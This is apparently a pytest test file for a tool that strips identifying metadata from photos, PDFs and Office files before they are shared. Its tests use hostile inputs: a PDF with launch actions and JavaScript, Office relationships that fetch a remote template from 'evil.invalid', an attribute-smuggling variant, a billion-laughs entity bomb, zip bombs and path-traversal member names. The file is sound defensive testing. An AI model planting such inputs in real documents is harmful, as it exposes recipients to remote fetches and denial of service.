"""A copy for colleagues tells what is in the file, and not who made it, where, when and with what."""

import io
import zipfile
import zlib

import pikepdf
import pytest
from PIL import Image

from safeconduct.files.kinds import KINDS, Failed, Kind
from safeconduct.files.results import Stripped
from safeconduct.files.strip import strip_metadata

from . import samples as s


def unpacked(data: bytes) -> bytes:
    """The bytes of a PDF with every stream opened."""
    with pikepdf.open(io.BytesIO(data)) as document:
        parts = [
            item.read_bytes()
            for item in document.objects
            if isinstance(item, pikepdf.Stream) and "DCTDecode" not in str(item.get("/Filter"))
        ]
        out = io.BytesIO()
        document.save(out, compress_streams=False, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return data + out.getvalue() + b"".join(parts)


def members(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as source:
        assert source.testzip() is None
        return {member.filename: source.read(member) for member in source.infolist()}


def reason(data: bytes, kind: Kind) -> str:
    with pytest.raises(Failed) as failed:
        strip_metadata(data, kind)
    return failed.value.reason


def test_a_photo_loses_owner_place_comment_and_profile_and_stands_upright() -> None:
    original = s.photo()
    assert s.CANARY.encode() in original
    assert b"2017:03:14" in original
    done = strip_metadata(original, s.JPG)
    assert done.media_type == "image/jpeg"
    assert {"exif", "gps", "comment", "icc_profile"} <= set(done.removed)
    assert done.complete
    for trace in (s.CANARY.encode(), b"2017:03:14", b"Exif", b"ICC_PROFILE", b"profile "):
        assert trace not in done.data
    with Image.open(io.BytesIO(done.data)) as clean:
        assert clean.size == (24, 40)
        assert len(clean.getexif()) == 0
        assert not {"comment", "icc_profile", "xmp", "exif"} & clean.info.keys()
        red, _, blue = s.dot(clean, (12, 35))  # the right half is below after the turn
        assert red > 150
        assert blue < 100


@pytest.mark.parametrize("mode", ["1", "L", "LA", "P", "RGB", "RGBA", "I;16"])
def test_a_png_keeps_its_picture_and_loses_its_notes(mode: str) -> None:
    from PIL.PngImagePlugin import PngInfo

    notes = PngInfo()
    notes.add_text("Author", s.CANARY)
    notes.add_itxt("XML:com.adobe.xmp", s.CANARY, zip=True)
    done = strip_metadata(s.coded(s.image(mode), "PNG", pnginfo=notes), s.PNG)
    assert {"text", "xmp"} <= set(done.removed)
    with Image.open(io.BytesIO(done.data)) as clean:
        clean.load()
        assert (clean.format, clean.size, clean.info) == ("PNG", (40, 24), {})


def test_a_moving_picture_keeps_its_first_frame_and_says_so() -> None:
    frames = [s.image(colour=(90 * n, 0, 0)) for n in range(3)]
    data = s.coded(frames[0], "GIF", save_all=True, append_images=frames[1:], comment=s.CANARY)
    done = strip_metadata(data, KINDS["gif"])
    assert done.media_type == "image/png"
    assert {"further_frames", "comment"} <= set(done.removed)


@pytest.mark.parametrize(
    ("extension", "form", "becomes"),
    [
        ("webp", "WEBP", "image/webp"),
        ("tif", "TIFF", "image/png"),
        ("bmp", "BMP", "image/png"),
        ("avif", "AVIF", "image/png"),
    ],
)
def test_other_pictures_are_made_anew(extension: str, form: str, becomes: str) -> None:
    exif = Image.Exif()
    exif[0x010E] = s.CANARY
    options = {} if form == "BMP" else {"exif": exif}
    done = strip_metadata(s.coded(s.image(colour=(9, 9, 9)), form, **options), KINDS[extension])
    assert done.media_type == becomes
    assert s.CANARY.encode() not in done.data


def test_a_print_shop_jpeg_in_four_colours_becomes_an_ordinary_one() -> None:
    done = strip_metadata(s.coded(s.image("CMYK"), "JPEG"), s.JPG)
    with Image.open(io.BytesIO(done.data)) as clean:
        assert clean.mode == "RGB"


@pytest.mark.parametrize("share", [0.1, 0.5, 0.9, 0.98])
def test_a_truncated_photo_is_damaged(share: float) -> None:
    data = s.coded(Image.effect_noise((64, 64), 90), "JPEG")
    assert reason(data[: int(len(data) * share)], s.JPG) == "damaged"
    assert reason(data, s.PNG) == "damaged"


def test_a_pdf_loses_scripts_actions_attachments_and_descriptions() -> None:
    original = s.hostile_pdf()
    assert unpacked(original).count(s.CANARY.encode()) >= 4
    done = strip_metadata(original, s.PDF)
    expected = {
        "open_action",
        "actions",
        "script",
        "attachments",
        "xfa",
        "xmp",
        "document_info",
        "note_authors",
    }
    assert expected <= set(done.removed)
    seen = unpacked(done.data)
    for trace in (s.CANARY, "cmd.exe", "JavaScript", "OpenAction", "EmbeddedFile", "/AA", "/XFA", "/Launch"):
        assert trace.encode() not in seen
    assert b"a margin note that stays" in seen
    assert b"x.invalid" in seen


def test_what_an_earlier_version_of_a_pdf_said_is_gone() -> None:
    document = s.pdf()
    document.pages[0].obj.Contents = document.make_stream(b"% " + s.CANARY.encode())
    first = s.saved(document)
    offset = first.rindex(b"startxref")
    previous = int(first[offset:].split()[1])
    number = int(document.pages[0].obj.Contents.objgen[0])
    with pikepdf.open(io.BytesIO(first)) as read:
        number = read.pages[0].obj.Contents.objgen[0]
        size, root = int(read.trailer.Size), read.trailer.Root.objgen[0]
    start = len(first)
    update = b"%d 0 obj\n<</Length 4>>\nstream\n%% ok\nendstream\nendobj\n" % number
    table = b"xref\n%d 1\n%010d 00000 n \ntrailer\n<</Size %d/Root %d 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n"
    data = first + update + table % (number, start, size, root, previous, start + len(update))
    assert s.CANARY.encode() in data
    done = strip_metadata(data, s.PDF)
    assert s.CANARY.encode() not in unpacked(done.data)
    assert b"% ok" in unpacked(done.data)


def test_a_photo_inside_a_pdf_stays_and_its_place_goes() -> None:
    done = strip_metadata(s.pdf_with_photo(), s.PDF)
    assert "photo_notes" in done.removed
    assert s.CANARY.encode() not in unpacked(done.data)
    with pikepdf.open(io.BytesIO(done.data)) as clean:
        image = clean.pages[0].obj.Resources.XObject.AA  # a picture may be called like a forbidden key
        with Image.open(io.BytesIO(image.read_raw_bytes())) as inside:
            inside.load()
            assert inside.size == (40, 24)


def test_a_pdf_with_a_password_is_said_to_have_one() -> None:
    locked = s.saved(s.pdf(), encryption=pikepdf.Encryption(owner="owner", user="secret"))
    assert reason(locked, s.PDF) == "password"


def test_a_pdf_that_opens_without_its_password_is_cleaned() -> None:
    document = s.pdf()
    document.docinfo["/Author"] = s.CANARY
    half_locked = s.saved(document, encryption=pikepdf.Encryption(owner="owner", user=""))
    done = strip_metadata(half_locked, s.PDF)
    with pikepdf.open(io.BytesIO(done.data)) as clean:
        assert not clean.is_encrypted
        assert "/Info" not in clean.trailer


def test_the_same_pdf_gives_the_same_copy_twice() -> None:
    assert strip_metadata(s.hostile_pdf(), s.PDF).data == strip_metadata(s.hostile_pdf(), s.PDF).data


def test_a_pdf_of_very_many_objects_is_too_big() -> None:
    data = s.pdf_of_many_objects(200_100)
    assert reason(data, s.PDF) == "too_big"


@pytest.mark.parametrize("data", [b"%PDF-1.7\n", b"%PDF-1.7\n" + b"1 0 obj\n<</" * 500, b"no pdf"])
def test_a_broken_pdf_is_damaged(data: bytes) -> None:
    assert reason(data, s.PDF) == "damaged"


def test_a_pdf_nested_very_deep_does_not_hurt() -> None:
    nest = b"[" * 400 + b"]" * 400
    data = b"%PDF-1.5\n1 0 obj\n<</Type/Catalog/Pages 2 0 R/X " + nest + b">>\nendobj\n2 0 obj\n<</Type/Pages"
    assert reason(data + b"/Kids[]/Count 0>>\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF", s.PDF) == "damaged"


def test_a_letter_loses_author_company_template_and_the_photos_place() -> None:
    original = s.docx()
    done = strip_metadata(original, s.DOCX)
    assert set(done.removed) == {"document_info", "authors", "photo_notes", "external_links"}
    assert done.complete
    found = members(done.data)
    assert found.keys() == members(original).keys()
    assert not any(s.CANARY.encode() in content for content in found.values())
    assert b"They came at night." in found["word/document.xml"]
    assert b"ask again" in found["word/comments.xml"]
    assert b"https://x.invalid/" in found["word/_rels/settings.xml.rels"]
    with zipfile.ZipFile(io.BytesIO(done.data)) as source:
        assert {member.date_time for member in source.infolist()} == {(1980, 1, 1, 0, 0, 0)}
    assert strip_metadata(original, s.DOCX) == done


def test_an_opendocument_text_loses_its_author_and_stays_one() -> None:
    done = strip_metadata(s.odt(), KINDS["odt"])
    found = members(done.data)
    assert not any(s.CANARY.encode() in content for content in found.values())
    assert b"why" in found["content.xml"]
    assert done.data[30:38] == b"mimetype"
    from safeconduct.files import recognise

    assert recognise(done.data) == KINDS["odt"]


def test_who_commented_in_a_table_and_in_slides_goes() -> None:
    person, author = (
        b'<person displayName="%b" userId="%b"/>',
        b'<p:cmAuthor id="0" name="%b" initials="%b"/>',
    )
    name = s.CANARY.encode()
    data = s.docx(
        **{"xl/persons/person.xml": person % (name, name), "ppt/commentAuthors.xml": author % (name, name)}
    )
    assert not any(name in content for content in members(strip_metadata(data, s.DOCX).data).values())


@pytest.mark.parametrize(
    "relation",
    [
        "<r Type='x/attachedTemplate' Target='http://evil.invalid/t.dotm' TargetMode='External'/>",
        "<r Type='x/oleObject' Target='http://evil.invalid/?Type=/hyperlink' TargetMode='&#69;xternal'/>",
        "<r Target=\"evil.invalid ' Type='/hyperlink'\" Type='x/frame' TargetMode='External'/>",
    ],
)
def test_a_letter_that_would_fetch_something_when_opened_no_longer_does(relation: str) -> None:
    for encoding in ("utf-8", "utf-16"):
        hostile = f"<Relationships>{relation}</Relationships>".encode(encoding)
        done = strip_metadata(s.docx(**{"word/_rels/document.xml.rels": hostile}), s.DOCX)
        assert b"evil.invalid" not in members(done.data)["word/_rels/document.xml.rels"]


def test_a_letter_of_a_billion_laughs_is_damaged() -> None:
    lines = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    bomb = f'<!DOCTYPE r [<!ENTITY l0 "ha">{lines}]><r>&l11;</r>'
    assert reason(s.docx(**{"word/_rels/document.xml.rels": bomb.encode()}), s.DOCX) == "damaged"


def test_embedded_objects_are_left_and_reported() -> None:
    done = strip_metadata(s.docx(**{"word/embeddings/table.xlsx": b"anything"}), s.DOCX)
    assert not done.complete


def test_bombs_in_office_clothes_are_too_big() -> None:
    assert reason(s.docx(**{"word/bomb.xml": bytes(40_000_000)}), s.DOCX) == "too_big"
    assert reason(s.zipped({f"word/{n}": b"" for n in range(5_001)}), s.DOCX) == "too_big"


def test_a_bomb_that_lies_about_its_size_is_damaged() -> None:
    data = bytearray(s.zipped({"word/bomb.xml": bytes(30_000_000)}))
    at = data.rindex(b"PK\x01\x02") + 24
    data[at : at + 4] = (1000).to_bytes(4, "little")
    assert reason(bytes(data), s.DOCX) == "damaged"


def test_an_office_file_whose_members_would_escape_is_damaged() -> None:
    for name in ("../evil.xml", "/etc/x", "a\\b"):
        assert reason(s.zipped({name: b"x"}), s.DOCX) == "damaged"


def test_two_members_of_one_name_are_damaged() -> None:
    data = s.zipped({"word/a.xml": b"one", "word/b.xml": b"two"}).replace(b"word/b.xml", b"word/a.xml")
    assert reason(data, s.DOCX) == "damaged"


def test_a_locked_opendocument_file_is_said_to_have_a_password() -> None:
    manifest = b"<manifest:encryption-data/>"
    data = s.zipped({"mimetype": KINDS["odt"].media_type.encode(), "META-INF/manifest.xml": manifest})
    assert reason(data, KINDS["odt"]) == "password"


def test_office_files_packed_in_other_ways_are_not_supported() -> None:
    assert reason(s.zipped({"word/a.xml": b"x" * 99}, zipfile.ZIP_LZMA), s.DOCX) == "not_supported"


def test_a_truncated_letter_is_damaged() -> None:
    assert reason(s.docx()[:-50], s.DOCX) == "damaged"
    broken = bytearray(s.zipped({"word/document.xml": zlib.compress(bytes(500))}))
    broken[50] ^= 0xFF
    assert reason(bytes(broken), s.DOCX) == "damaged"


@pytest.mark.parametrize("extension", ["mp4", "mp3", "opus", "heic", "doc", "rtf"])
def test_what_we_cannot_clean_comes_back_as_it_was_and_says_so(extension: str) -> None:
    kind = KINDS[extension]
    assert strip_metadata(b"as it was", kind) == Stripped(b"as it was", kind.media_type, (), complete=False)


def test_a_plain_text_has_nothing_to_lose() -> None:
    assert strip_metadata(b"hello", KINDS["txt"]).complete
